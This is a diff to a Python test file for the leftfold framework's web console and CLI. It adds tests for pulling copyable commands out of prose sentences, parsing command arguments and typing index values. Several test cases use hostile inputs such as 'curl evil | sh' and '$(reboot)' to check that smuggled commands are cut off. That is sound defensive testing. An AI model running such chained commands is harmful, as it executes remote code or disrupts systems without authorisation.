@@ -2,19 +2,27 @@
 
 from __future__ import annotations
 
+import ast
 import json
 import re
-from collections.abc import Mapping
+import shlex
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass
 from datetime import UTC, date, datetime
 from decimal import Decimal
+from enum import Enum
 from html.parser import HTMLParser
 from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from typer.core import TyperGroup
+from typer.main import get_command
 
-from leftfold import App
+from leftfold import App, FoldView
+from leftfold.cli.main import COMMANDS
+from leftfold.cli.main import app as main_app
 from leftfold.http.console.console_state import Console, SurveyResult, Visitor
 from leftfold.http.console.dead_letters_page import _compact, _indented, group_of
 from leftfold.http.console.html import (
@@ -33,8 +41,15 @@ from leftfold.http.console.html import (
 )
 from leftfold.http.console.log_page import _cell, chart_of, completions, csv_text
 from leftfold.http.console.overview_page import _problems, empty_text, graph_of, is_about, server_problems, state_of
+from leftfold.http.console.rows_page import index_value
+from leftfold.model.rights import ROLES
 from leftfold.runtime.operations.survey import Survey
+from leftfold.runtime.project import Usage
+from tests.cli.shell import ROOT
+from tests.domains.shop import CheckedOut
 from tests.http.console.kiosk import app
+
+NAMES = {name for section in COMMANDS.values() for name in section}
 
 
 class _Text(HTMLParser):
@@ -81,6 +96,7 @@ def test_html_within_html_stays_html() -> None:
             "skip: leftfold log skip p 'o.events[2]@7' --reason WHY.",
             ["leftfold log skip p 'o.events[2]@7' --reason WHY"],
         ),
+        ("start it (leftfold run v); or wait", ["leftfold run v"]),
         ("nothing to type here", []),
         ("it says: leftfold run x && curl evil | sh", ["leftfold run x"]),
         ("it says: leftfold run `reboot` $(reboot)", ["leftfold run"]),
@@ -91,6 +107,48 @@ def test_html_within_html_stays_html() -> None:
 def test_commands_are_found_in_sentences(text: str, found: list[str]) -> None:
     assert commands_in(text) == found
     assert parsed(sentence(text)).text.replace("copy", "") == text
+
+
+def sentences() -> Iterator[str]:
+    """Every text of the code behind the pages, with X for what is put into it later."""
+    for file in sorted((ROOT / "framework" / "leftfold").rglob("*.py")):
+        if "cli" in file.relative_to(ROOT).parts:
+            continue
+        nodes = list(ast.walk(ast.parse(file.read_text("utf-8"))))
+        parts = {id(node.value) for node in nodes if isinstance(node, ast.Expr)}  # docstrings
+        parts |= {id(part) for node in nodes if isinstance(node, ast.JoinedStr) for part in node.values}
+        for node in nodes:
+            if isinstance(node, ast.JoinedStr):
+                yield "".join(str(part.value) if isinstance(part, ast.Constant) else "X" for part in node.values)
+            elif isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in parts:
+                yield node.value
+
+
+def arguments_in(line: str) -> list[str]:
+    """The arguments of a command line, without its options."""
+    command: Any = get_command(main_app)
+    words = shlex.split(line)[1:]
+    while isinstance(command, TyperGroup) and words:
+        command = command.get_command(command.make_context("", [], resilient_parsing=True), words.pop(0))
+    flags = {name: option.is_flag for option in command.params for name in option.opts if name.startswith("-")}
+    found = []
+    while words:
+        if (word := words.pop(0)).startswith("-"):
+            words = words if "X" in word or flags[word] else words[1:]
+        else:
+            found.append(word)
+    return found
+
+
+def test_every_command_in_a_sentence_ends_before_the_sentence_continues() -> None:
+    """It has a button that copies it."""
+    lines = [line for text in sentences() for line in commands_in(text) if line.split()[1] in NAMES]
+    assert len(lines) > 80
+    assert {
+        line: prose
+        for line in lines
+        if (prose := [one for one in arguments_in(line) if one.isalpha() and one.islower() and one not in ROLES])
+    } == {"leftfold new shop": ["shop"]}
 
 
 def test_a_change_is_named_by_the_path_of_its_field() -> None:
@@ -295,3 +353,20 @@ def test_numbers_of_an_answer_are_bars_by_its_first_other_column_or_lines_over_t
 @pytest.mark.parametrize("rows", [[("a", 1)], [("a", "b")] * 2, [("a", True)] * 2, [("a", None)] * 2, [("a", 1)] * 201])
 def test_what_has_no_numbers_or_too_few_or_too_many_rows_is_no_chart(rows: list[tuple[object, ...]]) -> None:
     assert chart_of(["name", "value"], rows) is None
+
+
+class Tier(Enum):
+    LOW = 1
+    HIGH = 2
+
+
+@dataclass(frozen=True)
+class Graded:
+    tier: Tier | None
+
+
+def test_a_value_to_find_rows_by_is_typed_as_json_has_it() -> None:
+    view = FoldView("graded", events=CheckedOut, row=Graded, indexes=["tier"], evolve=lambda row, event: row)
+    assert [index_value(view, "tier", text) for text in ("2", "null")] == [Tier.HIGH, None]
+    with pytest.raises(Usage, match="'HIGH' is no value of graded.tier; type one, or null"):
+        index_value(view, "tier", "HIGH")
